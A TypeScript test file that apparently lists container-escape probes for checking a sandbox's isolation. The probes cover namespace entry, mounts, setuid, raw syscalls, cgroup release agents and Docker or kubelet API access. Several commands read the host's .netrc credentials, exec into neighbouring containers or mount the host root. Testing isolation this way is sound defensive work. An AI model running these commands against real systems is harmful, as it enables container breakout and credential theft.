import { attacks } from '../attack.ts'

/** Nothing here changes the machine: what could is only opened, and that counts as reached. */
export const escapes = attacks('keys.escape', 'capabilities', [
  ['enter', 'enter the first process’s namespaces', 'nsenter --target 1 --mount cat /world/home/.netrc'],
  [
    'enter-network',
    'enter another process’s network namespace',
    'for p in /proc/[0-9]*; do nsenter --net=$p/ns/net true && echo reached:$RT_ID && break; done',
  ],
  [
    'user-namespace',
    'become root in a user namespace and mount',
    'unshare --user --map-root-user --mount sh -c "mkdir -p /tmp/un && mount -t tmpfs none /tmp/un && echo reached:$RT_ID"',
  ],
  [
    'mount',
    'mount a file system',
    'mkdir -p /tmp/m && mount -t tmpfs none /tmp/m && echo reached:$RT_ID && umount /tmp/m',
  ],
  [
    'bind',
    'mount a folder elsewhere to change it there',
    'mkdir -p /tmp/b && mount --bind /etc /tmp/b && echo reached:$RT_ID && umount /tmp/b',
  ],
  [
    'remount',
    'make a read-only mount writable',
    'mkdir -p /tmp/r && mount -t tmpfs -o ro none /tmp/r && mount -o remount,rw /tmp/r && echo reached:$RT_ID; umount /tmp/r',
  ],
  [
    'device',
    'make a device node',
    'mknod /tmp/null-$RT_ID c 1 3 && echo x > /tmp/null-$RT_ID && echo reached:$RT_ID; rm -f /tmp/null-$RT_ID',
  ],
  [
    'disk',
    'read the host’s disk',
    'for d in /dev/vda /dev/sda /dev/nvme0n1 /dev/xvda; do [ -b $d ] && head -c 512 $d >/dev/null && echo reached:$RT_ID; done',
    'The weak layout is given powers one by one, and so no devices: not every machine lets an engine give all.',
  ],
  ['chroot', 'change the root', 'chroot /proc/1/root cat /world/home/.netrc'],
  [
    'handle',
    'open files by handle, past mounts',
    'perl -e \'my $h = pack "LLC128", 128, 0; my $m = pack "L", 0; my $r = syscall(303, -100, my $p = "/usr/bin/env", $h, $m, 0); exit if $r != 0; open my $d, "<", "/usr/bin"; my $fd = syscall(304, fileno($d), $h, 0); print "reached:$ENV{RT_ID}" if $fd >= 0\'',
  ],
  [
    'setuid',
    'become root by a setuid program',
    'cp /usr/bin/perl ./s-$$ && chmod 6755 ./s-$$ && ./s-$$ -e \'print "reached:$ENV{RT_ID}" if $> == 0\'; rm -f ./s-$$; su -c "echo reached:$RT_ID" </dev/null',
  ],
  [
    'capabilities',
    'keep or raise capabilities',
    'perl -e \'print "reached:$ENV{RT_ID}" if grep { /^Cap(Prm|Eff|Bnd|Amb|Inh):\\s*0*[1-9a-f]/ } do { local @ARGV = "/proc/self/status"; <> }\'',
  ],
  [
    'release-agent',
    'open the control groups’ release agent',
    'for f in $(find /sys/fs/cgroup -maxdepth 2 -name release_agent -o -maxdepth 2 -name cgroup.procs 2>/dev/null | head -5); do opened $f; done; mkdir -p /tmp/cg && { mount -t cgroup2 none /tmp/cg || mount -t cgroup -o memory none /tmp/cg; } && opened /tmp/cg/cgroup.procs; umount /tmp/cg',
  ],
  ['core-pattern', 'open the kernel’s core pattern', 'opened /proc/sys/kernel/core_pattern'],
  ['sysrq', 'open the kernel’s emergency keys', 'opened /proc/sysrq-trigger', 'Not every kernel offers it.'],
  [
    'settings',
    'open the kernel’s own settings',
    'opened /sys/kernel/uevent_helper; opened /proc/sys/kernel/modprobe; opened /proc/sys/vm/overcommit_memory',
  ],
  [
    'binfmt',
    'open the kernel’s table of program formats',
    'mkdir -p /tmp/bf && mount -t binfmt_misc none /tmp/bf && opened /tmp/bf/register; umount /tmp/bf; opened /proc/sys/fs/binfmt_misc/register',
  ],
  [
    'hostname',
    'change the host’s name',
    'perl -e \'my $n = do { local @ARGV = "/proc/sys/kernel/hostname"; <> }; chomp $n; print "reached:$ENV{RT_ID}" if syscall(170, $n, length $n) == 0\'',
  ],
  [
    'module',
    'load a kernel module',
    'perl -e \'open my $f, "<", "/dev/null"; my $r = syscall(313, fileno($f), my $p = "", 0); print "reached:$ENV{RT_ID}" if $!{ENOEXEC} || $!{EINVAL} || $!{EBADF}\'',
    'Not every kernel takes modules.',
  ],
  [
    'trace',
    'load a program into the kernel, or listen to its events',
    'perl -e \'my $a = pack "LLLL x100", 2, 4, 8, 1; my $r = syscall(321, 0, $a, 72); print "reached:$ENV{RT_ID}" if $r >= 0\'',
  ],
  [
    'signal',
    'stop a process of the host',
    'for p in $(RT_PREY=keeper; prey); do kill -0 $p && echo reached:$RT_ID; done',
  ],
  ['priority', 'raise its priority over the host’s', 'nice -n -5 sh -c "[ \\$(nice) -lt 0 ] && echo reached:$RT_ID"'],
  [
    'clock',
    'set the clock',
    'perl -e \'my $t = pack "QQ", 0, 0; syscall(228, 0, $t); print "reached:$ENV{RT_ID}" if grep { /^CapEff:\\s*([0-9a-f]+)/ && (hex(substr $1, -8) >> 25) & 1 } do { local @ARGV = "/proc/self/status"; <> }\'',
  ],
])

export const engine = attacks('keys.engine', 'engine', [
  [
    'list',
    'ask the engine for its containers',
    'for s in $(engines); do api $s /containers/json | grep -q "\\[" && echo reached:$RT_ID; done',
  ],
  [
    'inspect',
    'read another container’s environment through the engine',
    'for s in $(engines); do api $s /containers/$RT_NEIGHBOUR/json; done',
  ],
  [
    'copy',
    'copy files out of another container',
    'for s in $(engines); do api $s "/containers/$RT_NEIGHBOUR/archive?path=/world/home/.netrc"; done',
  ],
  [
    'processes',
    'read another container’s arguments through the engine',
    'for s in $(engines); do api $s "/containers/$RT_NEIGHBOUR/top?ps_args=axww" | grep -q keeper && echo reached:$RT_ID; done',
  ],
  [
    'exec',
    'run a program in another container',
    'for s in $(engines); do id=$(curl -s -m 3 --unix-socket $s -H "content-type: application/json" -d \'{"Cmd":["cat","/world/home/.netrc"],"AttachStdout":true}\' http://e/containers/$RT_NEIGHBOUR/exec | grep -o "[0-9a-f]\\{64\\}"); curl -s -m 3 --output - --unix-socket $s -H "content-type: application/json" -d "{}" http://e/exec/$id/start; done',
  ],
  [
    'host-mount',
    'start a container that mounts the host',
    'for s in $(engines); do curl -s -m 3 --unix-socket $s -H "content-type: application/json" -d \'{"Image":"none","HostConfig":{"Binds":["/:/host"]}}\' http://e/containers/create | grep -qi "no such image" && echo reached:$RT_ID; done',
  ],
  [
    'tcp',
    'reach an engine over the network',
    'for h in 127.0.0.1 172.17.0.1 host.docker.internal; do for p in 2375 2376 4243; do reach tcp $h $p "GET /info HTTP/1.0\\r\\n\\r\\n"; done; done',
  ],
  [
    'variable',
    'follow `DOCKER_HOST`',
    'reach unix "$ENGINE" "GET /info HTTP/1.0\\r\\n\\r\\n" | grep -a Containers && echo reached:$RT_ID',
  ],
  ['cli', 'run the Docker CLI', 'docker ps -q && echo reached:$RT_ID'],
  [
    'orchestrator',
    'ask the node’s own agent',
    'for h in 127.0.0.1 10.96.0.1; do reach tcp $h 10250 "GET /pods HTTP/1.0\\r\\n\\r\\n"; reach tcp $h 10255 "GET /pods HTTP/1.0\\r\\n\\r\\n"; done',
  ],
])
